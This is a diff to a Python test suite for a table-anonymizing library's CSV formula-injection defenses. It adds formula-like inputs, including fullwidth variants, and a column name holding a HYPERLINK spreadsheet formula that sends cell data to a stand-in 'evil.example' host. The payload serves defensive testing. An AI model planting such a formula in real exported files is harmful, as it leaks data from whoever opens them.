@@ -17,6 +17,7 @@ from examples import examples
 from hypothesis import given
 from hypothesis import strategies as st
 
+import hedgerow as hr
 from hedgerow.engines import FrameRows, StagedRows
 from hedgerow.engines.formulas import escape_relation, escaped, formula_warning, formulas_in, may_hold_formulas
 from hedgerow.scratch import Scratch
@@ -29,6 +30,12 @@ FORMULAS = [
     "@SUM(A1)",
     "\tx",
     "\r=1",
+    "\n=1",
+    "\nx",
+    "＝1+1",
+    "'＋1",
+    "－1",
+    "＠SUM(A1)",
     "'=1",
     "''-x",
     "-1_000",
@@ -53,7 +60,7 @@ OTHERS = [
     " =1",
     "5",
 ]
-TEXTS = st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n5.eEx ")), max_size=6)
+TEXTS = st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n＝5.eEx ")), max_size=6)
 
 
 def test_which_cells_are_escaped() -> None:
@@ -131,6 +138,26 @@ def test_escaped_csv_is_read_back(tmp_path: Path) -> None:
         assert [row[0] for row in csv.reader(written)][1:] == [escaped(cell) for cell in cells]
 
 
+@pytest.mark.parametrize("cell", FORMULAS)
+@pytest.mark.parametrize("before", [0, (1 << 17) - 12, (1 << 17) - 11, (1 << 17) - 10, (1 << 17) - 9])
+def test_every_formula_in_a_file_is_found(cell: str, before: int, tmp_path: Path) -> None:
+    """Also where it stands on the border of what is read at once."""
+    table = pa.table({"a": ["x" * before], "b": [cell]})
+    duckdb.connect().from_arrow(table).write_csv(str(tmp_path / "out.csv"))
+    assert may_hold_formulas(tmp_path / "out.csv")
+
+
+def test_names_of_columns(tmp_path: Path) -> None:
+    """They are warned of, and no file that promises to have no formula is written with them."""
+    name = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    release = hr.anonymize(pa.table({name: ["a"] * 4}), hr.Schema(quasi=[name]), k=2)
+    assert any("The names of the columns" in one and "HYPERLINK" in one for one in release.audit.warnings)
+    with pytest.raises(hr.BadInput, match=r"for formulas\. Names are not escaped, because readers find"):
+        release.save(tmp_path / "out.csv", escape_formulas=True)
+    assert not any(tmp_path.iterdir())
+    release.save(tmp_path / "out.csv")
+
+
 def test_a_table_without_text_stays_as_it_is() -> None:
     rows = duckdb.connect().from_arrow(pa.table({"a": [-1]}))
     assert escape_relation(rows).fetchall() == [(-1,)]
@@ -140,7 +167,7 @@ def test_the_warning_names_columns_and_no_cell() -> None:
     assert formula_warning({}) is None
     said = formula_warning({f"column {n}": n + 1 for n in range(12)})
     assert said is not None
-    assert "10 cells of 'column 9' and cells of 2 more columns begin with" in said
+    assert "10 cells of 'column 9' and cells of 2 more columns begin as formulas do" in said
     assert "column 10" not in said
 
 
